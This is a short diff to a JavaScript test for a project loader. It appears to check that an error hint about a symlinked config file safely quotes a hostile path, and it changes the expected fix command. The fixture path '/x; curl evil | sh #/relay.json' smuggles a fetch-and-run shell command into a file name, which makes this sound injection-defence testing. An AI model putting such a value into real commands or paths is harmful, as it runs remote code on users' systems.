@@ -137,7 +137,7 @@ describe('loadProject', () => {
       disk.symlink('/x; curl evil | sh #/relay.json', 'relaycode.config.json')
     })
     expect(await failure(loading)).toMatchObject({
-      hint: "Put a regular file in its place: `cp --remove-destination -- '/x; curl evil | sh #/relay.json' /project/relaycode.config.json`",
+      hint: "Put a regular file in its place: `rm -- /project/relaycode.config.json && cp -- '/x; curl evil | sh #/relay.json' /project/relaycode.config.json`",
     })
   })
 
